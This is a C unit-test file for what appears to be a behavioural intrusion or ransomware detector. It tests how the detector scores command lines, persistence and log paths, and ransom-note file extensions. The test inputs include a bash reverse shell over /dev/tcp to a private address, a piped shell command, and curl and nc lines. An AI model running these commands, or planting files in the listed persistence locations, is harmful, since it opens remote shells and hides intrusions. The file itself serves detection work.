/* SPDX-License-Identifier: Apache-2.0 */
/* The small parts inside the room: arguments, paths, edges, strings. */
#include "test.h"

#include "arena.h"
#include "argv.h"
#include "edges.h"
#include "path.h"

#include "features/core.h"

#include <math.h>
#include <stdio.h>

static struct rv_argv_look look_at(const char *blank_separated)
{
    char argv[1024];
    size_t len = strlen(blank_separated);

    memcpy(argv, blank_separated, len + 1);
    for (size_t i = 0; i < len; i++)
        argv[i] = argv[i] == ' ' ? '\0' : argv[i];
    return rv_argv_look(rv_span(argv, len + 1), (uint32_t)len + 1);
}

static void arguments_are_described(void **state)
{
    static const struct {
        const char *argv;
        uint8_t meta, b64_run, net;
    } cases[] = {
        { "ls -la /tmp", 0, 0, 0 },
        { "sh -c id;uname|sh", 2, 0, 0 },
        { "curl http://10.0.0.1/x", 0, 0, 2 },
        { "bash -c bash>&/dev/tcp/10.0.0.1/443<&1", 4, 0, 2 },
        { "x QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo5 y", 0, 36, 0 },
        { "x abcdefghijklmnopqrstuvwxyz", 0, 0, 0 },
        { "ping 1.2.3.4", 0, 0, 1 },
        { "tool 1.2.3 1.2.3.4.5 1234.1.1.1 1.2.3.", 0, 0, 0 },
        { "x", 0, 0, 0 },
    };

    for (size_t i = 0; i < RV_COUNT(cases); i++) {
        struct rv_argv_look look = look_at(cases[i].argv);

        if (look.meta != cases[i].meta || look.b64_run != cases[i].b64_run ||
            look.net != cases[i].net)
            fail_msg("%s: meta %u, base64 %u, net %u", cases[i].argv, look.meta, look.b64_run,
                     look.net);
        assert_int_equal(look.len, strlen(cases[i].argv) + 1);
    }
    assert_true(look_at("gcc -c -o a.o a.c").shape == look_at("gcc -c -o bb.o bb.c").shape);
    assert_true(look_at("gcc -c a.c").shape == look_at("gcc -c a.c b.c d.c").shape);
    assert_true(look_at("gcc --x=1 a").shape == look_at("gcc --x=2 a").shape);
    assert_true(look_at("gcc -c a.c").shape != look_at("gcc -S a.c").shape);
    assert_true(look_at("nc 10.0.0.1").shape != look_at("nc /tmp/x").shape);
    assert_int_equal(rv_argv_look(rv_span(NULL, 0), 99999999).len, 65535);
    assert_in_range(look_at("aaaaaaaa").entropy_q4, 7, 8); /* and the NUL at the end */
}

static void paths_are_described(void **state)
{
    struct rv_path_look a = rv_path_look(rv_span_str("/home/u/a.txt"));
    struct rv_path_look b = rv_path_look(rv_span_str("/home/u/a.txt.locked"));
    struct rv_path_look c = rv_path_look(rv_span_str("/home/u/a.enc"));
    struct rv_path_look hidden = rv_path_look(rv_span_str("/home/u/.bashrc"));

    assert_true(a.dir == b.dir && b.stem == a.file && c.stem == a.stem && a.file != b.file);
    assert_true(rv_span_eq(b.ext, rv_span_str("locked")));
    assert_int_equal(hidden.ext.len, 0);
    assert_true(hidden.stem == hidden.file);
    assert_true(rv_path_look(rv_span_str("/dev/shm/x")).ordinary);
    assert_false(rv_path_look(rv_span_str("/dev/null")).ordinary);
    assert_false(rv_path_look(rv_span_str("/proc/self/mem")).ordinary);
    (void)rv_path_look(rv_span(NULL, 0));
}

static void places_that_matter_are_known(void **state)
{
    static const struct {
        const char *path;
        bool persists, is_log;
    } cases[] = {
        { "/etc/cron.d/x", true, false },      { "/etc/ld.so.preload", true, false },
        { "/etc/hosts", false, false },        { "/home/u/.ssh/authorized_keys", true, false },
        { "/root/.bashrc", true, false },      { "/home/u/src/.github/x", false, false },
        { "/home/u/notes.txt", false, false }, { "/var/spool/cron/crontabs/root", true, false },
        { "/var/log/auth.log", false, true },  { "/home/u/.bash_history", false, true },
        { "/usr/bin/x", false, false },        { "", false, false },
    };

    for (size_t i = 0; i < RV_COUNT(cases); i++) {
        struct rv_span path = rv_span_str(cases[i].path);

        if (rv_path_persists(path) != cases[i].persists || rv_path_is_log(path) != cases[i].is_log)
            fail_msg("%s", cases[i].path);
    }
}

static void extensions_are_known_or_strange(void **state)
{
    static const char *const known[] = { "txt", "TXT", "gz", "sqlite3", "timestamp", "o" };
    static const char *const strange[] = { "locked", "crypted", "wncry", "lockbit" };
    static struct rv_exts exts;

    rv_exts_init(&exts);
    for (size_t i = 0; i < RV_COUNT(known); i++)
        assert_true(rv_ext_known(&exts, rv_ext_hash(rv_span_str(known[i]))));
    for (size_t i = 0; i < RV_COUNT(strange); i++)
        assert_false(rv_ext_known(&exts, rv_ext_hash(rv_span_str(strange[i]))));
    assert_false(rv_ext_plausible(rv_span_str("12")));
    assert_false(rv_ext_plausible(rv_span_str("x")));
    assert_false(rv_ext_plausible(rv_span_str("a-b")));
    assert_false(rv_ext_plausible(rv_span_str("averylongextension")));
}

static void edges_count_fade_and_forget_the_least(void **state)
{
    struct rv_edges edges = { 0 };
    struct rv_edge often = rv_edge(RV_EDGE_DIR, 7, 1), once = rv_edge(RV_EDGE_DIR, 7, 2);

    rv_assert_ok(rv_edges_init(&edges, 64));
    for (int i = 0; i < 100; i++)
        rv_edges_learn(&edges, often);
    rv_edges_learn(&edges, once);
    assert_int_equal(rv_edges_look(&edges, often).count, 100);
    assert_int_equal(rv_edges_look(&edges, once).total, 101);
    assert_int_equal(rv_edges_look(&edges, once).distinct, 2);
    assert_int_equal(rv_edge_rarity_q4(rv_edges_look(&edges, often), 99), 0);
    /* A thing seen once is no rarer than one never seen: log2(103 / 3) = 5.1 bits. */
    assert_in_range(rv_edge_rarity_q4(rv_edges_look(&edges, once), 99), 80, 83);
    assert_in_range(rv_edge_rarity_q4(rv_edges_look(&edges, rv_edge(RV_EDGE_DIR, 7, 3)), 99), 80,
                    83);
    /* Nothing known of the subject: the prior. */
    assert_int_equal(rv_edge_rarity_q4(rv_edges_look(&edges, rv_edge(RV_EDGE_DIR, 8, 3)), 99), 99);
    rv_edges_fade(&edges);
    rv_edges_fade(&edges);
    assert_int_equal(rv_edges_look(&edges, once).count, 1);
    rv_edges_fade(&edges);
    assert_int_equal(rv_edges_look(&edges, once).count, 0);
    assert_in_range(rv_edges_look(&edges, often).count, 12, 13);
    for (uint64_t i = 0; i < 10000; i++)
        rv_edges_learn(&edges, rv_edge(RV_EDGE_NET, i, i));
    assert_true(edges.used <= 64 && edges.forgotten > 9000);
    rv_edges_done(&edges);
}

/* 10,000 random additions and drops against plain copies. */
static void strings_stay_what_they_were(void **state)
{
    struct rv_names_arena arena = { 0 };
    const char *owners[32] = { NULL };
    char expected[32][64];
    uint64_t x = 3;

    rv_assert_ok(rv_names_arena_init(&arena, 2048));
    for (int i = 0; i < 10000; i++) {
        size_t at, len;

        x = rv_mix64(x + 0x9e3779b97f4a7c15ULL);
        at = x % 32;
        len = (x >> 8) % 60;
        rv_names_arena_drop(&owners[at]);
        if (x >> 60 & 1) {
            memset(expected[at], 'a' + (int)(i % 26), len);
            expected[at][len] = '\0';
            if (rv_names_arena_add(&arena, rv_span(expected[at], len), &owners[at]) < 0)
                assert_null(owners[at]);
        }
        for (size_t j = 0; j < 32; j++) {
            if (owners[j])
                assert_string_equal(owners[j], expected[j]);
        }
    }
    rv_names_arena_done(&arena);
}

/* Against the real functions. */
static void logarithms_and_decay_are_close(void **state)
{
    uint64_t x = 1;

    for (int i = 0; i < 100000; i++) {
        uint64_t value;
        double error;

        x = rv_mix64(x + 0x9e3779b97f4a7c15ULL);
        value = x >> (x % 60);
        if (value < 2)
            continue;
        error = rv_core_log2_q8(value) / 256.0 - log2((double)value);
        if (fabs(error) > 1.0 / 50)
            fail_msg("log2(%lu): off by %f", (unsigned long)value, error);
        assert_int_equal(rv_core_top_bit(value), 63 - __builtin_clzll(value));
        assert_int_equal(rv_core_popcount(value), __builtin_popcountll(value));
    }
    /* A thousand small steps end where one large one does. */
    for (uint32_t start = 4096; start < 4096 * 1000; start *= 10) {
        uint32_t stepped = start;

        for (int i = 0; i < 1024; i++)
            stepped = rv_core_decay(stepped, 1);
        assert_true(fabs((double)stepped / start - 0.607) < 0.02); /* (1 - 1/2048)^1024 */
        assert_int_equal(rv_core_decay(start, 1024), start / 2);
        assert_int_equal(rv_core_decay(start, 1024 * 32), 0);
    }
}

static void distinct_counts_are_close(void **state)
{
    static const unsigned sizes[] = { 1, 2, 5, 10, 50, 200, 1000, 10000, 100000 };

    for (size_t i = 0; i < RV_COUNT(sizes); i++) {
        double error_sum = 0;

        for (uint64_t round = 0; round < 40; round++) {
            struct rv_distinct distinct = { 0 };

            for (uint64_t j = 0; j < sizes[i]; j++) {
                rv_distinct_add(&distinct, rv_mix64(round * 1000003 + j));
                rv_distinct_add(&distinct, rv_mix64(round * 1000003 + j));
            }
            error_sum += fabs((double)rv_distinct_count(&distinct) - sizes[i]) / sizes[i];
        }
        if (error_sum / 40 > 0.15)
            fail_msg("%u: mean error %.3f", sizes[i], error_sum / 40);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(arguments_are_described),
        cmocka_unit_test(paths_are_described),
        cmocka_unit_test(places_that_matter_are_known),
        cmocka_unit_test(extensions_are_known_or_strange),
        cmocka_unit_test(edges_count_fade_and_forget_the_least),
        cmocka_unit_test(strings_stay_what_they_were),
        cmocka_unit_test(logarithms_and_decay_are_close),
        cmocka_unit_test(distinct_counts_are_close),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
